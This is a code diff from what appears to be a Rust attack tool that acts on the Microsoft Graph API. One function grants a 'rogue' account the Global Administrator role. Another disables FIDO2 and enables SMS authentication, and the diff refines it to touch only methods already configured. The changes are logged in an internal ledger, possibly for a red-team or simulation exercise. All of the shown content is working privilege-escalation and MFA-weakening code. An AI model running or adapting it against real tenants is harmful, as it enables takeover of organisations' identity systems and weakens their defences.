@@ -157,9 +157,13 @@ async fn promote(intruder: &mut Intruder, rogue: &Value) -> Result<(), AttackErr
     let path = "/roleManagement/directory/roleAssignments";
     let made = intruder.client.create(path, &body).await?;
     let sentence = format!("made {} a Global Administrator", name(rogue));
-    intruder
-        .ledger
-        .note("roleAssignment", &made, DeedKind::Added, &[], &sentence);
+    intruder.ledger.note(
+        "unifiedRoleAssignment",
+        &made,
+        DeedKind::Added,
+        &[],
+        &sentence,
+    );
     Ok(())
 }
 
@@ -167,7 +171,15 @@ async fn weaken_methods(intruder: &mut Intruder) -> Result<(), AttackError> {
     let Some(policy) = intruder.client.find(METHODS).await? else {
         return Ok(());
     };
+    let held = policy["authenticationMethodConfigurations"].as_array();
+    let is_there = |method: &str| {
+        let mut held = held.into_iter().flatten();
+        held.any(|one| id(one).eq_ignore_ascii_case(method))
+    };
     for (method, state) in [("fido2", "disabled"), ("sms", "enabled")] {
+        if !is_there(method) {
+            continue;
+        }
         let body = json!({
             "@odata.type": format!("#microsoft.graph.{method}AuthenticationMethodConfiguration"),
             "state": state,
